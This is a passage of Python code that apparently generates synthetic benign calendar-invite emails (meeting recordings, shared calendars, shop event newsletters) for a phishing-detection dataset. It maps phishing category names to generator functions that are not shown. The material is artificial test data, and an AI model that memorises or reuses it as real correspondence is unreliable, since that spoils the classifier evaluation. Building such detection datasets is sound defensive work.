        url = 'https://%s-my.sharepoint.com/personal/%s/_layouts/15/stream.aspx?id=%%2Fpersonal%%2FRecordings%%2F%s.mp4' % (c.so[1].split('.')[0].replace('-', ''), c.sp[1].replace('.', '_'), alnum(c.rng, 20))
        k['teams'] = True
    elif c.setup == 'nextcloud':
        url = 'https://cloud.%s/s/%s' % (c.so[1], alnum(c.rng, 15))
    else:
        url = 'https://docs.google.com/document/d/1%s/edit' % alnum(c.rng, 43)
        k['attach'] = [{'uri': 'https://drive.google.com/open?id=1%s' % alnum(c.rng, 32), 'filename': 'Notes by Gemini – %s' % mt, 'fmttype': 'application/vnd.google-apps.document'},
                       {'uri': 'https://drive.google.com/open?id=1%s' % alnum(c.rng, 32), 'filename': '%s – Recording' % mt, 'fmttype': 'video/mp4'}]
        k['meet'] = True
    kw['url'] = url
    s, d = loc(c, kw, [(mt, 'Recording and transcript from the last session: {url}\n\nSame time next week.\n{name}'), (mt, 'Recording: {url}')])
    k.update(summary=s, desc=d, attendees_n=c.pick([3, 6, 12]), rrule=c.pick([None, 'FREQ=WEEKLY;BYDAY=TU', 'FREQ=WEEKLY;INTERVAL=2;BYDAY=TH']))
    return k


def h_sharedcal(c):
    kw = base_kw(c)
    host = c.pick(['p%02d-caldav.icloud.com' % c.rng.randint(10, 70), 'calendar.google.com', 'cloud.' + c.so[1], 'outlook.office365.com'])
    if c.setup == 'icloud':
        url = 'webcal://p%02d-caldav.icloud.com/published/2/%s' % (c.rng.randint(10, 70), alnum(c.rng, 80))
    elif c.setup == 'google-gmail':
        url = 'https://calendar.google.com/calendar/ical/%s%%40group.calendar.google.com/public/basic.ics' % hexid(c.rng, 26)
    elif c.setup == 'nextcloud':
        url = 'https://cloud.%s/remote.php/dav/public-calendars/%s?export' % (c.so[1], alnum(c.rng, 16))
    elif c.setup == 'outlook-com':
        url = 'https://outlook.live.com/owa/calendar/%s/%s/cid-%s/calendar.ics' % (uuid4(c.rng), uuid4(c.rng), hexid(c.rng, 16).upper())
    else:
        url = 'webcal://%s/calendar/%s.ics' % (c.so[1], c.pick(['fixtures', 'term-dates', 'events', 'rota']))
    kw['url'] = url
    en = [('Family calendar – school holidays', 'Hi! I\'ve shared our family calendar with the school holidays and the kids\' matches. Subscribe here: {url}\nLove, {name}'),
          ('Under-11s fixtures 2025', 'Fixtures for the season are in this calendar: {url}\nIt updates automatically if games move.'),
          ('Term dates calendar', 'Dear parents, you can subscribe to the school calendar (term dates, INSET days, trips): {url}'),
          ('Shift rota – shared calendar', 'The rota is now a shared calendar. Subscribe: {url}'),
          ('{name} shared a calendar with you', '{name} has shared "Holiday cover" with you. Subscribe: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, method='PUBLISH', calname=c.pick(['Family', 'Fixtures', 'School calendar', 'Rota', 'Holidays']),
             calprops=['X-WR-CALDESC:' + s.replace(',', '\\,'), 'REFRESH-INTERVAL;VALUE=DURATION:P1D', 'X-PUBLISHED-TTL:P1D'],
             extra_events=c.rng.randint(2, 6), allday=c.chance(0.6), note='genuine shared/published calendar with a subscription link')
    if c.setup == 'list':
        k['note'] = 'club mailing list: published fixtures calendar'
    return k


def h_newsletter(c):
    vi = c.en_i % 5
    brand = c.pick([['Fernwood Books', 'Oak Street Books'], ['Copper Kettle Coffee', 'Harbour Wine Cellar'], ['Velo Cycle Works'],
                    ['Oak Street Gallery'], ['Alder & Pine Outfitters', 'Fernwood Books', 'Copper Kettle Coffee']][vi] if not c.T else
                   ['Fernwood Books', 'Copper Kettle Coffee', 'Alder & Pine Outfitters', 'Velo Cycle Works', 'Harbour Wine Cellar', 'Oak Street Gallery'])
    cdom = brand.lower().replace(' & ', '-').replace(' ', '') + c.pick(['.com', '.co.uk', '.shop'])
    url = 'https://%s/events/%s' % (cdom, alnum(c.rng, 8).lower())
    kw = base_kw(c, url=url, brand=brand)
    en = [('Author evening at {brand}', 'Join us for a reading and Q&A. Free entry, limited seats – reserve here: {url}\nAdd the event to your calendar with the attached invite.'),
          ('{brand} tasting night – members preview', 'Our spring tasting is on! Members get early access. RSVP: {url}'),
          ('Workshop: basic bike maintenance', 'Hands-on workshop at our shop. Tools provided. Sign up: {url}'),
          ('Opening night: new exhibition', 'You\'re invited to the opening. Drinks from 6 pm. {url}'),
          ('{brand} anniversary party', 'Thank you for 10 years! Come celebrate with us – 20% off all evening. Details: {url}')]
    s, d = loc(c, kw, en)
    k = dict(summary=s, desc=d, method='PUBLISH', hours=(17, 19), note='brand/shop newsletter with an event invitation', brand_dom=cdom, brand_name=brand)
    if c.setup == 'platform':
        plat = c.pick(['mailchimp', 'brevo', 'hubspot', 'klaviyo'])
        k.update(platform=plat, subject=s, intro='', note_text=d, display=brand, esp_from=(brand, 'hello@' + cdom), cta=('Reserve your seat', url),
                 note='shop newsletter via %s with event invitation (PUBLISH)' % P[plat]['name'])
    elif c.setup == 'list':
        k['note'] = 'society mailing list: event announcement with invite'
    elif c.setup == 'handrolled':
        k['note'] = 'shop website events plugin: event invitation'
    else:
        k['attendees_n'] = c.pick([80, 150, 300])
        k['note'] = 'newsletter-style event invite sent to many attendees'
    return k


SPAM_FUN = {'esign-lure': s_esign, 'invoice-callback': s_invoice, 'form-phish': s_form, 'file-share-lure': s_fileshare,
            'webinar-investment-scam': s_webinar, 'compromised-account-lure': s_compromised, 'clickfix-verify': s_clickfix,
            'qr-code-lure': s_qr, 'html-svg-attachment': s_htmlsvg, 'brand-callback-scam': s_callback,
            'job-ambassador-scam': s_job, 'fake-recording-transcript': s_recording, 'fake-shared-calendar': s_sharedcal,
            'promo-giveaway-lure': s_promo}
HAM_FUN = {'esign-envelope': h_esign, 'invoice-payment': h_invoice, 'form-survey-invite': h_form, 'file-share': h_fileshare,
           'webinar-registration': h_webinar, 'colleague-meeting': h_colleague, 'it-security-session': h_itsec,
           'event-qr-ticket': h_qr, 'agenda-attachment': h_agenda, 'support-callback': h_callback,
           'recruiter-outreach': h_recruiter, 'meeting-recording': h_recording, 'shared-calendar': h_sharedcal,
           'brand-event-newsletter': h_newsletter}
